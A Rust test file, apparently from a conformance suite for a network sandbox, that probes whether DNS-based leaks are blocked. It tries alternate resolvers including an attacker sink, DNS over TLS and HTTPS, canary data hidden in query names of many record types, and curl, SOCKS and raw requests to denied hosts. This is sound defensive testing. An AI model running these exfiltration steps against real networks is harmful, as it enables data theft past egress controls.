//! Names: nothing leaves in a query, whoever is asked and however.

use super::bench::{ALLOWED, DENIED, GET, SINK, SINK_V6, attempt, nothing_leaves, zone};
use crate::stand::{Stand, Wall};
use fumehood_backend::conformance::Verdict;
use serde_json::{Value, json};

super::probes! {
    e07_a_resolver_of_its_own_choice => super::another_resolver;
    e08_dns_in_another_coat => super::other_coats;
    e09_data_in_a_query => super::data_in_a_query;
    e10_a_denied_request_resolves_nothing => super::resolves_nothing;
    e11_many_names_under_a_wildcard => super::many_names;
}

const TYPES: &[&str] = &["A", "AAAA", "TXT", "NULL", "HTTPS", "SVCB", "SRV", "PTR", "MX", "NS", "ANY"];

fn another_resolver(stand: &Stand, wall: Wall) -> Verdict {
    zone(stand);
    let mut steps = Vec::new();
    // The host's own resolver, public ones, and one of the attacker's.
    for server in ["192.0.2.53", "2001:db8::53", "8.8.8.8", "1.1.1.1", SINK, SINK_V6, "2606:4700:4700::1111"]
    {
        steps.push(json!({"dns": [server, "canary-CANARY.denied.test", "TXT"], "over": "udp"}));
        steps.push(json!({"dns": [server, "canary-CANARY.denied.test", "A"], "over": "tcp"}));
    }
    nothing_leaves(stand, wall, &["--allow", ALLOWED], &steps.into())
}

fn other_coats(stand: &Stand, wall: Wall) -> Verdict {
    zone(stand);
    let doh = "GET /dns-query?dns=AAABAAABAAAAAAAABmNhbmFyeQRldmlsBHRlc3QAAAEAAQ HTTP/1.1\r\nHost: dns.denied.test\r\nConnection: close\r\n\r\n";
    let steps = json!([
        {"tls": [SINK, 853], "sni": "dns.denied.test", "send": GET}, {"tls": ["1.1.1.1", 853], "sni": null, "send": GET},
        {"udp": [SINK, 853], "send": "CANARY"}, {"tls": [SINK, 443], "sni": "dns.denied.test", "send": doh},
        {"tls": ["dns.denied.test", 443], "send": doh}, {"tls": ["dns.google", 443], "send": doh},
        {"tls": ["8.8.8.8", 443], "sni": "dns.google", "send": doh},
    ]);
    nothing_leaves(stand, wall, &["--allow", ALLOWED], &steps)
}

fn data_in_a_query(stand: &Stand, wall: Wall) -> Verdict {
    zone(stand);
    let mut steps: Vec<Value> = Vec::new();
    for kind in TYPES {
        // A name under an exact rule is another name.
        for name in ["CANARY.denied.test", "CANARY.allowed.test", "CANARY"] {
            steps.push(json!({"dns": [null, name, kind]}));
        }
    }
    steps.push(json!({"dns": [null, "7.113.0.203.in-addr.arpa", "PTR"]}));
    steps.push(json!({"dns": [null, "_ldap._tcp.allowed.test", "SRV"], "over": "tcp"}));
    nothing_leaves(stand, wall, &["--allow", ALLOWED], &steps.into())
}

fn resolves_nothing(stand: &Stand, wall: Wall) -> Verdict {
    zone(stand);
    let steps = json!([
        {"run": ["curl", "-s", "--max-time", "4", "http://CANARY.denied.test/"]},
        {"run": ["curl", "-sk", "--max-time", "4", "https://CANARY.denied.test/"]},
        {"run": ["getent", "ahosts", "CANARY.denied.test"]},
        {"connect": "CANARY.denied.test:443", "sni": DENIED, "send": GET},
        {"absolute": "GET http://CANARY.denied.test/ HTTP/1.1\r\nHost: CANARY.denied.test\r\n\r\n"},
        {"socks": ["CANARY.denied.test", 80], "send": GET},
    ]);
    nothing_leaves(stand, wall, &["--allow", ALLOWED], &steps)
}

/// A thousand names under a wildcard that a rule names: each may be answered inside, none may leave.
fn many_names(stand: &Stand, wall: Wall) -> Verdict {
    zone(stand);
    let long = ["a".repeat(63), "b".repeat(63), "c".repeat(60)].join(".");
    let names =
        (0..1000).map(|turn| format!("CANARY-{turn}.allowed.test")).chain([format!("{long}.allowed.test")]);
    let steps: Vec<Value> = names.map(|name| json!({"dns": [null, name, "A"]})).collect();
    let seen = match attempt(stand, wall, &["--allow", "*.allowed.test"], &steps.into()) {
        Ok(seen) => seen,
        Err(verdict) => return verdict,
    };
    let names = seen.log.names();
    if names.is_empty() && seen.log.dialled().is_empty() {
        return Verdict::Held;
    }
    Verdict::Breached(format!("{} names left", names.len()))
}
